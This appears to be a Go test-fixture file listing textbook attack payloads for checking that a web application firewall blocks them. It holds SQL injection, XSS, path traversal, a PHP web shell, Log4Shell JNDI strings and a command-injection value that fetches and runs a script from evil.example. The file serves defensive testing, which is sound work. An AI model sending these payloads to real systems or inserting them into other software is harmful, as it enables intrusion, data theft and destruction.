package spec

import "sort"

// Payload is one attack sample a WAF should block: sent as the value of
// query parameter Param, or as a request header when Header is set.
type Payload struct {
	Param  string
	Header string
	Value  string
}

// Payloads are the built-in samples per class; waf_blocks sends every one of
// a class and expects each to be blocked. They are textbook attacks that
// the OWASP CRS blocks at paranoia level 1 with the default threshold.
var Payloads = map[string][]Payload{
	"sqli": {
		{Param: "id", Value: "1' OR '1'='1' --"},
		{Param: "id", Value: "1 UNION SELECT username, password FROM users--"},
		{Param: "q", Value: "'; DROP TABLE users; --"},
	},
	"xss": {
		{Param: "q", Value: "<script>alert(document.cookie)</script>"},
		{Param: "q", Value: `<img src=x onerror="alert(1)">`},
		{Param: "next", Value: "javascript:alert(1)//<svg/onload=alert(1)>"},
	},
	"traversal": {
		{Param: "file", Value: "../../../../etc/passwd"},
		{Param: "file", Value: "..\\..\\..\\windows\\win.ini"},
		{Param: "path", Value: "/var/www/../../etc/shadow"},
	},
	"rce": {
		{Param: "host", Value: "127.0.0.1; cat /etc/passwd"},
		{Param: "cmd", Value: "$(curl http://evil.example/x.sh | sh)"},
		{Param: "q", Value: "| /bin/bash -c 'id'"},
	},
	"php": {
		{Param: "q", Value: "<?php system($_GET['c']); ?>"},
		{Param: "f", Value: "php://filter/convert.base64-encode/resource=index.php"},
	},
	"log4shell": {
		{Param: "q", Value: "${jndi:ldap://evil.example/a}"},
		{Header: "User-Agent", Value: "${jndi:ldap://evil.example/a}"},
	},
	"scanner": {
		{Header: "User-Agent", Value: "sqlmap/1.7.2#stable (https://sqlmap.org)"},
		{Header: "User-Agent", Value: "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)"},
	},
}

// BenignPayload is what waf_allows_benign sends: an ordinary search.
var BenignPayload = Payload{Param: "q", Value: "blue running shoes size 42"}

// PayloadClasses returns the class names, sorted.
func PayloadClasses() []string {
	out := make([]string, 0, len(Payloads))
	for k := range Payloads {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}
